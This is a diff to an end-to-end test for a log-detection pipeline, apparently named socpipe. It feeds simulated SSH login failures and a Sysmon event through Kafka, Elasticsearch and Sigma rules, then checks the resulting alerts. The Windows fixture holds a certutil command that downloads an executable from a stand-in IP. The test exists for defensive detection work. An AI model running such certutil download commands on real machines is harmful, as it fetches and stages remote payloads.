@@ -1,12 +1,15 @@
-"""The skeleton end to end: each stage its own process, over the real Kafka and Elasticsearch.
+"""The pipeline end to end: each stage its own process, over the real Kafka and Elasticsearch.
 
-sshd lines are written into a tailed file; the alert is found through the API. Then the
+sshd lines are written into a tailed file; the detector's Sigma engine (socpipe's rules and one
+of SigmaHQ's) turns the failures into detections; the alert is found through the API. Then the
 detector and alerting workers are killed without warning and restarted: what they had not
-committed is replayed, and the alert still counts each failed login exactly once.
+committed is replayed, and the alert still counts each failed login exactly once. Last, a
+second agency's collector ships a Windows event that a SigmaHQ rule catches.
 """
 
 from __future__ import annotations
 
+import json
 import os
 import signal
 import socket
@@ -30,7 +33,9 @@ from socpipe.settings import Settings
 pytestmark = [pytest.mark.e2e, pytest.mark.kafka, pytest.mark.elasticsearch, pytest.mark.slow]
 
 TOKEN = "e2e-analyst-token-0123456789"
-CONFIG = Path(__file__).resolve().parents[2] / "deploy" / "config"
+REPO = Path(__file__).resolve().parents[2]
+CONFIG = REPO / "deploy" / "config"
+CERTUTIL_RULE = "rules/windows/process_creation/proc_creation_win_certutil_download.yml"
 ATTACKER = "203.0.113.77"
 
 
@@ -80,7 +85,9 @@ class Stages:
 
 
 @pytest.fixture
-def stages(pipeline_settings: Settings, tmp_path: Path) -> Iterator[tuple[Stages, Settings, int]]:
+def stages(
+    pipeline_settings: Settings, tmp_path: Path, shared_data: Path
+) -> Iterator[tuple[Stages, Settings, int]]:
     port = free_port()
     values: dict[str, Any] = pipeline_settings.model_dump(mode="json")
     values["api"] = {
@@ -92,6 +99,10 @@ def stages(pipeline_settings: Settings, tmp_path: Path) -> Iterator[tuple[Stages
     values["collector"].update(id="e2e-collector", host="ubnd-phucxa-srv", poll_interval_s=0.2)
     values["detector"]["agencies_file"] = str(CONFIG / "agencies.yaml")
     values["detector"]["assets_file"] = str(CONFIG / "assets.yaml")
+    values["detector"]["rules_paths"] = [
+        str(REPO / "rules" / "socpipe"),
+        str(shared_data / "sigma" / CERTUTIL_RULE),
+    ]
     config = tmp_path / "socpipe.yaml"
     config.write_text(yaml.safe_dump(values, allow_unicode=True), encoding="utf-8")
     ensure_topics(pipeline_settings.kafka)
@@ -149,6 +160,7 @@ def test_sshd_lines_become_one_alert_through_every_stage(
     assert body["total"] == 1
     (alert,) = body["data"]
     assert alert["count"] == 5
+    assert alert["rule"]["title"] == "SSH authentication failure"
     assert alert["entities"] == {
         "agency": "phuong-phuc-xa",
         "tier": "commune",
@@ -162,6 +174,8 @@ def test_sshd_lines_become_one_alert_through_every_stage(
         timeout=5,
     ).json()
     assert "nguyễn.văn.a" in detail["events"][0]["event"]["original"]
+    # Judged by the Sigma engine, with socpipe's rule for what the foundation's check did.
+    assert detail["detector"]["type"] == "sigma"
     assert httpx.get(f"http://127.0.0.1:{port}/alerts", timeout=5).status_code == 401
 
     # The line no parser knows is an event all the same, tagged unparsed, with its agency.
@@ -214,3 +228,57 @@ def test_sshd_lines_become_one_alert_through_every_stage(
         f"http://127.0.0.1:{port}/alerts", headers={"Authorization": f"Bearer {TOKEN}"}, timeout=5
     ).json()
     assert again["data"][0]["count"] == 8
+
+    # Another agency's Windows machine, shipped as NXLog writes events: a SigmaHQ rule fires.
+    winlog = tmp_path / "winlog.json"
+    winlog.touch()
+    running.start(
+        "collect-windows",
+        "collect",
+        str(winlog),
+        env={
+            "SOCPIPE_AGENCY__ID": "so-noi-vu",
+            "SOCPIPE_AGENCY__TIER": "province",
+            "SOCPIPE_COLLECTOR__ID": "e2e-windows",
+            "SOCPIPE_COLLECTOR__HOST": "snv-pc-12",
+            "SOCPIPE_COLLECTOR__FORMAT": "winlog.json",
+            "SOCPIPE_COLLECTOR__CHECKPOINT_FILE": str(tmp_path / "windows-checkpoints.json"),
+        },
+    )
+    now = datetime.now(ZoneInfo("Asia/Ho_Chi_Minh"))
+    event = {
+        "EventID": 1,
+        "Channel": "Microsoft-Windows-Sysmon/Operational",
+        "SourceName": "Microsoft-Windows-Sysmon",
+        "Hostname": "snv-pc-12.snv.tinh.gov.vn",
+        "EventTime": f"{now:%Y-%m-%d %H:%M:%S}",
+        "Image": "C:\\Windows\\System32\\certutil.exe",
+        "CommandLine": "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe",
+        "User": "SNV\\lê.thị.hoa",
+    }
+    with winlog.open("a", encoding="utf-8") as log:
+        log.write(json.dumps(event, ensure_ascii=False) + "\n")
+    windows = wait_for_alerts(port, running, lambda a: a["entities"]["agency"] == "so-noi-vu")
+    assert windows["rule"]["title"] == "Suspicious Download Via Certutil.EXE"
+    assert windows["rule"]["id"] == "19b08b1c-861d-4e75-a1ef-ea0c1baf202b"
+    assert windows["entities"]["host"] == "snv-pc-12.snv.tinh.gov.vn"
+    assert windows["entities"]["user"] == "lê.thị.hoa"
+    assert "t1105" in [t.lower() for t in windows["rule"]["techniques"]]
+
+
+def wait_for_alerts(port: int, running: Stages, wanted: Any, timeout_s: float = 120) -> Any:
+    """The first alert ``wanted`` accepts, waiting for it."""
+    deadline = time.monotonic() + timeout_s
+    while time.monotonic() < deadline:
+        running.check()
+        response = httpx.get(
+            f"http://127.0.0.1:{port}/alerts",
+            headers={"Authorization": f"Bearer {TOKEN}"},
+            timeout=5,
+        )
+        if response.status_code == 200:
+            found = [alert for alert in response.json()["data"] if wanted(alert)]
+            if found:
+                return found[0]
+        time.sleep(0.5)
+    raise AssertionError(f"no such alert within {timeout_s}s")
